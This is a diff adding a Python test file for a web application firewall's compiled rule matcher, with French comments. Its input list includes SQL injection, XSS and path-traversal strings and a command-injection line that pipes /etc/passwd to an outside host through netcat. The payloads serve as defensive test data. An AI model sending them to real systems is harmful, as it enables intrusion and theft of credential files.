@@ -0,0 +1,82 @@
+import dataclasses
+
+from benchmarks.corpus import analysis_texts
+from waf import ruleset as ruleset_module
+from waf.redos import AnalysisBudget, pattern_risk
+from waf.rules import match_rules, normalize_payload
+from waf.ruleset import CompiledRuleSet, builtin_rule_pack, match_rules_active, verify_stats
+
+EXTRA = [
+    "",
+    "' or 1=1",
+    '" OR 1 = 1 --',
+    "id=1 union  select null",
+    "sleep (5) and benchmark(1,md5(1))",
+    "<svg onload=alert(1)>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "..%2f..%2fetc%2fpasswd",
+    "; cat /etc/passwd | nc 1.2.3.4 80",
+    "javascript:alert`1`",
+    "İstanbul ǅ ﬁle",
+]
+
+
+def _texts():
+    # Sans budget: pas d'entrées à retour arrière catastrophique (cf. test sous budget)
+    raw = analysis_texts(600) + analysis_texts(60, seed=11, body_size=2048) + EXTRA
+    return raw + [normalize_payload(t)[0] for t in raw]
+
+
+def test_compiled_matches_legacy():
+    pack = builtin_rule_pack()
+    compiled = CompiledRuleSet(pack.patterns, pack.anchors)
+    hits = 0
+    for text in _texts():
+        expected = match_rules(text, None, pack.patterns)
+        assert compiled.match(text) == expected, text[:200]
+        hits += bool(expected)
+    assert hits > 50  # le corpus déclenche bien des règles
+
+
+def test_anchors_are_necessary_conditions():
+    pack = builtin_rule_pack()
+    for text in _texts():
+        for name, pattern, _ in pack.patterns:
+            if pattern.search(text):
+                for group in pack.anchors.get(name, ()):
+                    assert any(lit in text for lit in group), (name, group, text[:200])
+
+
+def test_compiled_under_step_budget_keeps_all_matches():
+    pack = builtin_rule_pack()
+    compiled = CompiledRuleSet(pack.patterns, pack.anchors)
+    risky = {name for name, pattern, _ in pack.patterns if pattern_risk(pattern) is not None}
+    texts = ["<img " * 300, "?id=" * 300, "?id=" + "a" * 300 + " union select 1", "name=<script>alert(1)</script>"]
+    for text in texts:
+        budget = AnalysisBudget(0, 500)
+        got = compiled.match(text, budget)
+        expected = match_rules(text, None, pack.patterns)
+        if budget.over_steps:
+            # Seules les règles à risque hors budget sont sautées
+            assert set(got) <= set(expected)
+            assert {name for name, _ in expected if (name, _) not in got} <= risky
+        else:
+            # Le pré-filtre a évité les règles coûteuses sans perdre de match
+            assert got == expected
+    budget = AnalysisBudget(0, 500)
+    got = compiled.match("?id=" + "a" * 3000 + " union select <script>", budget)
+    assert budget.over_steps and not budget.exhausted
+    assert ("SQLI_UNION_SELECT", 6) in got and any(name == "XSS_SCRIPT_TAG" for name, _ in got)
+
+
+def test_verify_engine_reports_no_mismatch(monkeypatch):
+    monkeypatch.setattr(
+        ruleset_module, "settings", dataclasses.replace(ruleset_module.settings, rule_engine="verify")
+    )
+    before = verify_stats()
+    for text in analysis_texts(200):
+        normalized = normalize_payload(text)[0]
+        assert match_rules_active(normalized) == match_rules(normalized)
+    after = verify_stats()
+    assert after["checked"] - before["checked"] == 200
+    assert after["mismatches"] == before["mismatches"]